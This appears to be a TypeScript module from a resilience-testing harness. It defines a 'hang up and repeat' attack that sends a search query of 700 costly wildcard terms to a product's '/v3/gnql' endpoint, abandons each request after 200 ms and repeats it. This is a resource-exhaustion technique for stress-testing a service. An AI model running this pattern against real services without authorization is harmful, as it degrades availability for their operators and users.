import { againAndAgain, type Attack } from '../attack.ts'
import { send } from '../wire.ts'

/** Costly queries, each left after a fifth of a second and asked again. */
export const hangUp: Attack = {
  name: 'hang up and repeat',
  point: '4.8',
  run({ product: { url }, address, signal, outcomes }) {
    const query = encodeURIComponent(Array.from({ length: 700 }, (_, n) => `-path:*f?h*${n}x*`).join(' '))
    return againAndAgain({ signal }, 16, async () =>
      outcomes.add(await send({ url, path: `/v3/gnql?query=${query}`, address, signal, patience: 200 })),
    )
  },
}
